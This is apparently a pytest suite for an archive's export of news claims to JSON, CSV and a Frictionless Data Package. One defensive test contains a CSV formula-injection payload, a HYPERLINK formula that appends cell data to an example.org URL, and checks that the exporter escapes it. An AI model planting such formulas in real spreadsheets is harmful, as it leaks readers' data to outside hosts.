"""Data downloads (build_scripts/export.py): the whole archive as JSON, CSV tables and a
Frictionless Data Package that the `frictionless` library validates, with every foreign key
resolving and every count matching the archive; byte-for-byte deterministic."""

from __future__ import annotations

import csv
import hashlib
import io
import json
from pathlib import Path

import pytest
from frictionless import Package, system

from archive_support import (MINISTRY_ARTICLE, OUTSIDE_DATE_BASIS, OUTSIDE_FACT, REBEL_ACTOR, REPO, SMALL,
                             add_unnamed_source_claims, append, copy_archive, linked_archive, replace)
from build_scripts import export
from site_check import soup


@pytest.fixture(scope="module", params=["small", "real"])
def archive(request):
    return linked_archive(SMALL if request.param == "small" else REPO)


def write(files: dict[str, str], dest: Path) -> Path:
    for rel, text in files.items():
        path = dest / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(text.encode("utf-8"))
    return dest / export.DATA_DIR


def rows(files: dict[str, str], table: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(files[f"data/{table}.csv"], newline="")))


def validate(folder: Path):
    with system.use_context(trusted=True):
        return Package(str(folder / export.PACKAGE_FILE)).validate()


def test_the_data_package_is_valid_for_frictionless(archive, tmp_path):
    report = validate(write(export.export_files(archive), tmp_path))

    errors = [f"{task.name}: {e.type}: {e.message}" for task in report.tasks for e in task.errors] + \
             [f"{e.type}: {e.message}" for e in report.errors]
    assert report.valid, "\n".join(errors)
    assert {task.name for task in report.tasks} == {t.name for t in export.TABLES} | {"archive", "places-geojson"}


def test_frictionless_catches_a_broken_foreign_key_so_the_check_above_is_not_vacuous(tmp_path):
    files = export.export_files(linked_archive(SMALL))
    files["data/claims.csv"] = files["data/claims.csv"].replace(",example-observatory,", ",no-such-actor,", 1)
    package = json.loads(files["data/datapackage.json"])
    for resource in package["resources"]:
        resource.pop("hash"), resource.pop("bytes")  # only the foreign key may fail
    files["data/datapackage.json"] = json.dumps(package)

    report = validate(write(files, tmp_path))

    assert not report.valid
    assert [e.type for task in report.tasks for e in task.errors] == ["foreign-key"]


def test_every_foreign_key_resolves(archive):
    files = export.export_files(archive)
    tables = {t.name: rows(files, t.name) for t in export.TABLES}

    for table in export.TABLES:
        for fk in table.foreign_keys:
            targets = {tuple(r[f] for f in fk.reference) for r in tables[fk.resource]}
            for row in tables[table.name]:
                value = tuple(row[f] for f in fk.fields)
                if all(value):
                    assert value in targets, (table.name, fk, value)


def test_primary_keys_are_unique_and_rows_are_sorted_by_them(archive):
    files = export.export_files(archive)
    for table in export.TABLES:
        fields = {f.name: f for f in table.fields}
        keys = [tuple(int(r[k]) if fields[k].type == "integer" else r[k] for k in table.primary_key)
                for r in rows(files, table.name)]
        assert len(keys) == len(set(keys)), table.name
        assert keys == sorted(keys), table.name


def test_counts_match_the_archive(archive):
    files = export.export_files(archive)
    data = json.loads(files["data/archive.json"])

    for kind in ("articles", "actors", "claims", "disputes"):
        entities = getattr(archive, kind)
        assert len(rows(files, kind)) == len(entities), kind
        assert [item["id"] for item in data[kind]] == sorted(entities), kind
        assert data["counts"][kind] == len(entities)
    assert len(rows(files, "claim_subjects")) == sum(len(c.subjects) for c in archive.claims.values())
    assert len(rows(files, "claim_figures")) == sum(len(c.data.figures) for c in archive.claims.values())
    assert len(rows(files, "dispute_members")) == sum(len(d.claims) for d in archive.disputes.values())
    assert len(rows(files, "affiliations")) == sum(len(a.affiliations) for a in archive.actors.values())


def test_the_real_archive_has_the_expected_size():
    files = export.export_files(linked_archive(REPO))

    assert [len(rows(files, kind)) for kind in ("articles", "actors", "claims", "disputes")] == [5, 61, 118, 11]


def test_quote_offsets_point_at_the_quote_in_the_exported_text(archive):
    files = export.export_files(archive)
    texts = {r["id"]: r["text"] for r in rows(files, "articles")}

    for claim in rows(files, "claims"):
        text = texts[claim["article_id"]]
        assert text[int(claim["quote_start"]):int(claim["quote_end"])] == claim["quote"], claim["id"]


def test_unknown_values_are_empty_never_guessed():
    files = export.export_files(linked_archive(REPO))
    articles = {r["id"]: r for r in rows(files, "articles")}

    undated = articles["trumba-apc-attack-three-russians-wounded"]
    assert (undated["published_date"], undated["published_precision"], undated["outlet_id"], undated["url"]) == \
        ("", "unknown", "", "")
    assert articles["turkey-ups-pressure-russia-strikes-idlib"]["published_date"] == "2020"
    assert articles["turkey-ups-pressure-russia-strikes-idlib"]["published_precision"] == "year"
    data = json.loads(files["data/archive.json"])
    assert {a["id"]: a["url"] for a in data["articles"]}["trumba-apc-attack-three-russians-wounded"] is None


def test_numbers_have_one_spelling():
    files = export.export_files(linked_archive(SMALL))
    figures = rows(files, "claim_figures")

    assert {(f["claim_id"], f["min"], f["max"], f["approximate"]) for f in figures} >= {
        ("ministry-up-to-40-killed", "", "40", "false")}
    assert ".0" not in files["data/claim_figures.csv"]
    data = json.loads(files["data/archive.json"])
    figure = next(c for c in data["claims"] if c["id"] == "ministry-up-to-40-killed")["figures"][0]
    assert figure["max"] == 40 and isinstance(figure["max"], int) and figure["min"] is None
    assert export.number(2.5) == 2.5 and export.number(3.0) == 3


def test_files_are_deterministic_utf8_with_newline_line_endings(tmp_path):
    first = export.export_files(linked_archive(SMALL))
    again = export.export_files(linked_archive(copy_archive(tmp_path / "elsewhere")))

    assert first == again
    for rel, text in first.items():
        assert "\r" not in text, rel
        assert text.endswith("\n"), rel


def test_the_package_records_each_file_size_and_hash():
    files = export.export_files(linked_archive(SMALL))
    package = json.loads(files["data/datapackage.json"])

    for resource in package["resources"]:
        data = files[f"data/{resource['path']}"].encode("utf-8")
        assert resource["bytes"] == len(data)
        assert resource["hash"] == "sha256:" + hashlib.sha256(data).hexdigest()


def test_text_with_commas_quotes_and_newlines_survives_the_csv(tmp_path):
    root = copy_archive(tmp_path)
    replace(root, "annotations/disputes/thursday-attack.yml", 'note: "Recorded; no source in the archive settles it."',
            'note: "Recorded, \\"quoted\\";\\nsecond line, é ش"')

    files = export.export_files(linked_archive(root))

    history = rows(files, "dispute_history")
    assert history[0]["note"] == 'Recorded, "quoted";\nsecond line, é ش'


def test_a_correction_is_exported_with_its_record(tmp_path):
    root = copy_archive(tmp_path)
    replace(root, "annotations/disputes/thursday-attack.yml",
            'history:\n', 'corrections:\n  - date: "2027-01-02"\n    change: "Side 2 renamed."\n'
            '    reason: "Neutral wording."\nhistory:\n')

    files = export.export_files(linked_archive(root))

    assert rows(files, "corrections") == [{"entity_kind": "dispute", "entity_id": "thursday-attack", "position": "1",
                                           "date": "2027-01-02", "change": "Side 2 renamed.",
                                           "reason": "Neutral wording."}]


# --- the built site ---------------------------------------------------------------------------


def test_the_built_site_serves_the_data_files(small_site):
    for name in [export.JSON_FILE, export.PACKAGE_FILE] + [t.path for t in export.TABLES]:
        assert (small_site / "data" / name).is_file(), name
    assert (small_site / "data" / "index.html").is_file()


@pytest.mark.parametrize("index", ["articles", "actors", "claims", "disputes"])
def test_every_index_page_links_its_downloads(small_site, index):
    line = soup(small_site / index / "index.html").select_one("p.downloads")

    assert line is not None and line.get_text().startswith("Download this data:")
    hrefs = [a["href"] for a in line.find_all("a")]
    assert f"../data/{index}.csv" in hrefs and "../data/archive.json" in hrefs and "../data/" in hrefs
    for href in hrefs:
        assert (small_site / index / href.rstrip("/")).exists(), href


def test_a_csv_text_cell_that_a_spreadsheet_would_run_as_a_formula_starts_with_an_apostrophe():
    from build_scripts import export

    assert export._cell('=HYPERLINK("https://example.org/?"&A1)') == '\'=HYPERLINK("https://example.org/?"&A1)'
    assert [export._cell(t) for t in ("+1", "-x", "@SUM(A1)", "\tx", "\rx")] == \
        ["'+1", "'-x", "'@SUM(A1)", "'\tx", "'\rx"]
    assert export._cell("Up to 40 killed") == "Up to 40 killed"
    assert export._cell(-3) == "-3" and export._cell(-2.5) == "-2.5"  # numbers are numbers


# --- the trust model (issue 13): where a quote stands, whose voice, dates, figures, provenance ---------


def test_a_reader_comment_claim_says_where_it_stands_and_whose_comment_it_is():
    files = export.export_files(linked_archive(SMALL))
    claims = {r["id"]: r for r in rows(files, "claims")}
    data = {c["id"]: c for c in json.loads(files["data/archive.json"])["claims"]}

    assert (claims["reader-says-lies"]["location"], claims["reader-says-lies"]["commenter_id"]) == \
        ("reader-comment", "sam-reader")
    assert (data["reader-says-lies"]["location"], data["reader-says-lies"]["commenter"]) == \
        ("reader-comment", "sam-reader")
    for claim_id in ("ministry-up-to-40-killed", "rebels-deny-attack", "observatory-no-attack"):
        assert (claims[claim_id]["location"], claims[claim_id]["commenter_id"]) == ("body", ""), claim_id
        assert (data[claim_id]["location"], data[claim_id]["commenter"]) == ("body", None), claim_id


def test_every_claim_has_a_voice_and_an_empty_claimant_is_never_unknown(archive):
    files = export.export_files(archive)

    for claim in rows(files, "claims"):
        if claim["claimant_id"]:
            assert (claim["voice"], claim["unnamed_source"]) == ("named", ""), claim["id"]
        else:
            assert claim["voice"] == ("unnamed" if claim["unnamed_source"] else "article"), claim["id"]
        assert claim["location"] in export.v.CLAIM_LOCATIONS, claim["id"]
        assert bool(claim["commenter_id"]) == (claim["location"] == "reader-comment"), claim["id"]


def test_articles_carry_the_checksum_of_the_exported_text(archive):
    files = export.export_files(archive)

    for article in rows(files, "articles"):
        assert article["sha256"] == hashlib.sha256(article["text"].encode("utf-8")).hexdigest(), article["id"]
        assert article["sha256"] == archive.articles[article["id"]].sha256
    data = json.loads(files["data/archive.json"])
    assert {a["id"]: a["sha256"] for a in data["articles"]} == {a.id: a.sha256 for a in archive.articles.values()}


@pytest.fixture(scope="module")
def trust(tmp_path_factory):
    """The small fixture with an unnamed source, the article's own voice, a stated date and a
    date resting on outside knowledge, exclusive bounds, provenance keys and periods; its files."""
    root = copy_archive(tmp_path_factory.mktemp("trust"))
    add_unnamed_source_claims(root)
    replace(root, MINISTRY_ARTICLE, "  basis: \"Page line 'date 2020-01-23'\"\n",
            "  basis: \"Page line 'date 2020-01-23'\"\n  outside: \"The outlet's archive lists it on that day\"\n"
            "captured: \"2020-01-24\"\narchived_url: \"https://web.archive.org/web/2020/https://example.org/a\"\n")
    replace(root, REBEL_ACTOR, "affiliations:\n",
            "description: \"An armed group active in the north.\"\ndescription_period:\n  start: \"2019\"\n"
            "  end: \"2020-03\"\n  basis: \"As of the ministry's report, January 2020\"\naffiliations:\n")
    append(root, REBEL_ACTOR, "    period:\n      start: \"2020-01-23\"\n      basis: \"The monitor's report\"\n")
    return export.export_files(linked_archive(root)), root


def test_the_trust_model_downloads_are_valid_for_frictionless(trust, tmp_path):
    files, _ = trust
    report = validate(write(files, tmp_path))

    assert report.valid, [f"{task.name}: {e.message}" for task in report.tasks for e in task.errors]


def test_an_unnamed_source_exports_with_its_words_and_the_article_voice_as_such(trust):
    files, _ = trust
    claims = {r["id"]: r for r in rows(files, "claims")}
    data = {c["id"]: c for c in json.loads(files["data/archive.json"])["claims"]}

    unnamed, own = claims["local-sources-fighters-killed"], claims["monitor-air-strikes-recorded"]
    assert (unnamed["claimant_id"], unnamed["voice"], unnamed["unnamed_source"]) == ("", "unnamed", "Local sources")
    assert (own["claimant_id"], own["voice"], own["unnamed_source"]) == ("", "article", "")
    assert (data["local-sources-fighters-killed"]["voice"], data["local-sources-fighters-killed"]["unnamed_source"],
            data["local-sources-fighters-killed"]["claimant"]) == ("unnamed", "Local sources", None)
    assert (data["monitor-air-strikes-recorded"]["voice"], data["monitor-air-strikes-recorded"]["unnamed_source"]) \
        == ("article", None)


def test_a_stated_date_and_a_date_from_outside_the_text_are_exported_as_such(trust):
    files, _ = trust
    claims = {r["id"]: r for r in rows(files, "claims")}
    articles = {r["id"]: r for r in rows(files, "articles")}
    data = json.loads(files["data/archive.json"])

    stated = claims["local-sources-fighters-killed"]
    assert (stated["stated_date"], stated["stated_precision"], stated["stated_outside"]) == \
        ("2020-01", "month", OUTSIDE_DATE_BASIS)
    assert (stated["event_date_date"], stated["event_date_precision"], stated["event_date_outside"]) == \
        ("", "unknown", "")
    assert {c["id"]: c["stated_date"] for c in data["claims"]}["local-sources-fighters-killed"] == {
        "date": "2020-01", "precision": "month", "basis": "'last month', in a text of February 2020",
        "outside": OUTSIDE_DATE_BASIS}
    assert articles["ministry-reports-attack"]["published_outside"] == "The outlet's archive lists it on that day"
    assert articles["monitor-says-no-attack"]["published_outside"] == ""
    published = {a["id"]: a["published"] for a in data["articles"]}["ministry-reports-attack"]
    assert published["outside"] == "The outlet's archive lists it on that day"


def test_exclusive_bounds_and_victims_round_trip(trust):
    files, _ = trust
    figures = {(r["claim_id"], r["position"]): r for r in rows(files, "claim_figures")}
    data = {c["id"]: c for c in json.loads(files["data/archive.json"])["claims"]}

    figure = figures["local-sources-fighters-killed", "1"]
    assert {k: figure[k] for k in ("measure", "victims", "unit", "min", "min_exclusive", "max", "max_exclusive",
                                   "approximate")} == {
        "measure": "killed", "victims": "non-state-fighters", "unit": "fighters", "min": "12",
        "min_exclusive": "true", "max": "20", "max_exclusive": "true", "approximate": "false"}
    assert (figures["observatory-no-attack", "1"]["victims"], figures["observatory-no-attack", "1"]["min_exclusive"]) \
        == ("", "false")
    assert data["local-sources-fighters-killed"]["figures"] == [{
        "measure": "killed", "victims": "non-state-fighters", "unit": "fighters", "min": 12, "min_exclusive": True,
        "max": 20, "max_exclusive": True, "approximate": False}]
    assert data["observatory-no-attack"]["figures"][0]["victims"] is None


def test_provenance_keys_and_periods_are_exported(trust):
    files, _ = trust
    articles = {r["id"]: r for r in rows(files, "articles")}
    actors = {r["id"]: r for r in rows(files, "actors")}
    data = json.loads(files["data/archive.json"])

    provenance = ("2020-01-24", "https://web.archive.org/web/2020/https://example.org/a",
                  "A test fixture: it has no original page.")
    ministry = articles["ministry-reports-attack"]
    assert (ministry["captured"], ministry["archived_url"], ministry["provenance_note"]) == provenance
    record = {a["id"]: a for a in data["articles"]}["ministry-reports-attack"]
    assert (record["captured"], record["archived_url"], record["provenance_note"]) == provenance
    assert (articles["monitor-says-no-attack"]["captured"], articles["monitor-says-no-attack"]["archived_url"]) == \
        ("", "")
    rebel = actors["rebel-front"]
    assert (rebel["description_period_start"], rebel["description_period_end"], rebel["description_period_basis"]) \
        == ("2019", "2020-03", "As of the ministry's report, January 2020")
    assert actors["sam-reader"]["description_period_basis"] == ""
    assert rows(files, "affiliations")[0] == {
        "actor_id": "rebel-front", "position": "1", "relation": "associated-with", "target_id": "example-observatory",
        "source_article_id": "monitor-says-no-attack", "evidence": "The Example Observatory said",
        "period_start": "2020-01-23", "period_end": "", "period_basis": "The monitor's report"}
    actor = {a["id"]: a for a in data["actors"]}["rebel-front"]
    assert actor["description_period"] == {"start": "2019", "end": "2020-03",
                                           "basis": "As of the ministry's report, January 2020"}
    assert actor["affiliations"][0]["period"] == {"start": "2020-01-23", "end": None, "basis": "The monitor's report"}
    assert {a["id"]: a["description_period"] for a in data["actors"]}["sam-reader"] is None


def test_facts_from_outside_the_texts_are_exported_apart_with_their_source(trust):
    files, _ = trust
    facts = rows(files, "outside_facts")
    data = {c["id"]: c for c in json.loads(files["data/archive.json"])["claims"]}

    assert facts == [{"entity_kind": "claim", "entity_id": "local-sources-fighters-killed", "position": "1",
                      "fact": OUTSIDE_FACT[0], "source": OUTSIDE_FACT[1]}]
    assert data["local-sources-fighters-killed"]["outside_facts"] == [
        {"fact": OUTSIDE_FACT[0], "source": OUTSIDE_FACT[1]}]
    assert data["monitor-air-strikes-recorded"]["outside_facts"] == []


# Fields of the contributor's files that archive.json gives in another form: a quote's or an
# evidence's prefix and suffix only pick out its place in the text, which the record gives as
# offsets (quote_start/quote_end) or leaves to the evidence itself.
GIVEN_OTHERWISE = {"prefix", "suffix"}


def test_every_field_of_every_model_reaches_archive_json():
    """A field added to a model in build_scripts/schema.py fails here until the downloads carry
    it (or it is listed above with the reason): the one place a field is declared is the model."""
    from build_scripts import schema

    archive = linked_archive(SMALL)
    data = json.loads(export.export_files(archive)["data/archive.json"])
    nested = {schema.Figure: ("claims", "figures"), schema.Affiliation: ("actors", "affiliations"),
              schema.Segment: ("articles", "segments"), schema.Side: ("disputes", "sides"),
              schema.HistoryEntry: ("disputes", "history"), schema.ClaimRelation: ("claims", "relations")}
    top = {schema.ArticleMeta: "articles", schema.Actor: "actors", schema.Claim: "claims", schema.Dispute: "disputes"}
    missing = []
    for model, section in top.items():
        keys = set().union(*(record.keys() for record in data[section]))
        missing += [f"{section}.{f}" for f in model.model_fields if f not in keys and f not in GIVEN_OTHERWISE]
    for model, (section, key) in nested.items():
        keys = set().union(*(item.keys() for record in data[section] for item in record[key]))
        missing += [f"{section}.{key}.{f}" for f in model.model_fields if f not in keys and f not in GIVEN_OTHERWISE]
    date_keys = set(data["claims"][0]["event_date"] or {"date": 0, "precision": 0, "basis": 0, "outside": 0})
    missing += [f"date.{f}" for f in schema.DateValue.model_fields if f not in date_keys]
    assert missing == [], f"model fields not in archive.json: {missing}"
